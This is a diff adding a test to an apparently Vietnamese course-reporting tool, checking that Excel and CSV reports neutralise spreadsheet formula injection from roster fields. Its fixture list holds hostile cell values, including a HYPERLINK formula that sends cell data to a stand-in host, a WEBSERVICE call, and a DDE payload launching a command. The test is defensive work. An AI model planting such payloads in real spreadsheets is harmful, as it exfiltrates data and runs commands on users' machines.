@@ -81,3 +81,77 @@ def test_charts_have_vietnamese_glyphs_and_target_line():
         assert not style.missing_glyphs("".join(texts))
         assert any("Mục tiêu 80%" in t or "Đạt (từ 70% số điểm)" in t for t in texts)
         assert charts.png(fig).startswith(b"\x89PNG")
+
+
+INJECTED = [
+    '=HYPERLINK("http://x.example/?d="&A2,"Bấm vào")',
+    '=WEBSERVICE("http://x.example")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+]
+
+
+def test_report_cells_are_inert_against_formula_injection(tmp_path):
+    """Roster text that reached a report (from a class imported before the roster refused it,
+    or any future path) is stored as text in every sheet and escaped in the CSV."""
+    from openpyxl import load_workbook
+
+    from aiwork.trainer import stats
+    from aiwork.trainer.cohort import Cohort
+    from aiwork.trainer.report import headline, write_tables
+
+    roster = tmp_path / "ds.csv"
+    roster.write_text(
+        "Mã học viên,Họ và tên,Đơn vị,Email\n"
+        + "".join(
+            f"hv00{i},Nguyễn Văn An,Sở Nội vụ {i},an{i}@vi-du.example\n"
+            for i in range(len(INJECTED))
+        ),
+        encoding="utf-8",
+    )
+    root = tmp_path / "lop"
+    exchange = str(tmp_path / "ex")
+    assert main(["cohort", "init", str(root), "--roster", str(roster), "--exchange", exchange]) == 0
+    cohort = Cohort.open(root)
+    p = stats.progress(cohort)
+    assert p.long.empty  # nothing released yet: one detail row per injected text, by hand
+    p.long = pd.DataFrame(
+        [
+            {
+                **dict.fromkeys(stats.LONG_COLUMNS, ""),
+                "ma_hoc_vien": f"hv00{i}",
+                "don_vi": f"Sở Nội vụ {i}",
+                "mo_dun": text,
+                "da_nop": False,
+                "da_cham": False,
+                "dat": False,
+            }
+            for i, text in enumerate(INJECTED)
+        ],
+        columns=stats.LONG_COLUMNS,
+    )
+    for i, text in enumerate(INJECTED):
+        unit = f"Sở Nội vụ {i}"
+        for table in (p.learners, p.units, p.long):
+            table.loc[table["don_vi"] == unit, "don_vi"] = text
+        p.learners.loc[p.learners["ma_hoc_vien"] == f"hv00{i}", "ho_va_ten"] = text
+    xlsx, csv_path = tmp_path / "bc.xlsx", tmp_path / "bc.csv"
+    write_tables(p, xlsx, csv_path, headline(p, cohort))
+
+    wb = load_workbook(xlsx)
+    seen = set()
+    for sheet in ("Học viên", "Đơn vị", "Chi tiết"):
+        for row in wb[sheet].iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet, cell.coordinate, cell.value)
+                if cell.value in INJECTED:
+                    assert cell.quotePrefix, (sheet, cell.coordinate)
+                    seen.add((sheet, cell.value))
+    assert {s for s, _ in seen} == {"Học viên", "Đơn vị", "Chi tiết"}
+    assert {v for _, v in seen} == set(INJECTED)
+
+    with open(csv_path, encoding="utf-8-sig", newline="") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
+    assert {f"'{t}" for t in INJECTED} <= set(cells)
